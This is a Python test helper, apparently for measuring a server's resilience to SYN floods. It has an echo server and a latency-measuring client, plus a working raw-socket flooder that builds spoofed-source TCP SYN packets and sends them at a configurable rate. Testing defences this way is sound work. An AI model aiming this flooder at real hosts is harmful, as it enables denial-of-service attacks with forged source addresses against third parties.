"""Hostile and real clients for the SYN-flood test.

    python flood.py syn DST PORT PREFIX RATE SECONDS    spoofed SYNs from PREFIX.2-254 (raw socket),
                                                        paced at RATE/s; prints 'sent N'
    python flood.py echo PORT                           echo server; prints 'accepted N' on stdin EOF
    python flood.py requests HOST PORT SECONDS RATE     a new connection per 1 KB echo request, one at a
                                                        time, at most RATE/s; prints JSON {done, failed,
                                                        rate, latency percentiles}
"""
import json
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    opts = struct.pack("!BBH", 2, 4, 1460)                       # MSS, like a real SYN
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(opts) // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, socket.inet_aton(src),
                     socket.inet_aton(dst))
    return ip + tcp                                               # the kernel fills the IP checksum


def flood(dst: str, port: int, prefix: str, rate: int, seconds: float) -> None:
    rnd = random.Random(20131209)
    pool = [syn(f"{prefix}.{rnd.randint(2, 254)}", dst, rnd.randint(1024, 65535), port, rnd.getrandbits(32))
            for _ in range(min(200_000, int(rate * seconds)))]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    print("ready", flush=True)
    sent, start = 0, time.monotonic()
    addr = (dst, 0)
    while True:
        now = time.monotonic() - start
        if now >= seconds:
            break
        due = min(int(now * rate) + 64, int(seconds * rate))
        while sent < due:
            try:
                s.sendto(pool[sent % len(pool)], addr)
            except OSError:          # e.g. ENOBUFS: count only what left
                break
            sent += 1
            if sent == rate // 2:    # half a second of it: the flood is on (the test waits for this line)
                print("on", flush=True)
        time.sleep(0.001)
    print(f"sent {sent} in {time.monotonic() - start:.1f}s", flush=True)


def echo(port: int) -> None:
    import selectors
    sel = selectors.DefaultSelector()
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", port))
    ls.listen(4096)
    ls.setblocking(False)
    sel.register(ls, selectors.EVENT_READ)
    sel.register(sys.stdin, selectors.EVENT_READ)
    accepted = 0
    print("ready", flush=True)
    while True:
        for key, _ in sel.select(1.0):
            if key.fileobj is sys.stdin:
                sys.stdin.readline()
                print(f"accepted {accepted}", flush=True)
                return
            if key.fileobj is ls:
                try:
                    c, _ = ls.accept()
                except BlockingIOError:
                    continue
                accepted += 1
                c.setblocking(False)
                sel.register(c, selectors.EVENT_READ)
                continue
            c = key.fileobj
            try:
                data = c.recv(65536)
            except OSError:
                data = b""
            if data:
                try:
                    c.sendall(data)
                except OSError:
                    pass
            else:
                sel.unregister(c)
                c.close()


def requests(host: str, port: int, seconds: float, rate: float) -> None:
    """Paced like a busy app (`rate` requests/s at most, one at a time); counts and latencies."""
    payload = bytes(range(256)) * 4
    done = failed = 0
    lat = []
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        t0 = time.monotonic()
        try:
            with socket.create_connection((host, port), timeout=3.0) as s:
                s.sendall(payload)
                got = b""
                while len(got) < len(payload):
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    got += chunk
            if got == payload:
                done += 1
                lat.append(time.monotonic() - t0)
            else:
                failed += 1
        except OSError:
            failed += 1
        pause = start + (done + failed) / rate - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    took = time.monotonic() - start
    lat.sort()
    pct = (lambda q: round(1e3 * lat[min(len(lat) - 1, int(q * len(lat)))], 2) if lat else None)
    print(json.dumps({"done": done, "failed": failed, "seconds": took, "rate": done / took,
                      "latency_ms_p50": pct(0.5), "latency_ms_p99": pct(0.99), "latency_ms_max": pct(1.0)}),
          flush=True)


if __name__ == "__main__":
    role = sys.argv[1]
    if role == "syn":
        flood(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), float(sys.argv[6]))
    elif role == "echo":
        echo(int(sys.argv[2]))
    else:
        requests(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]))
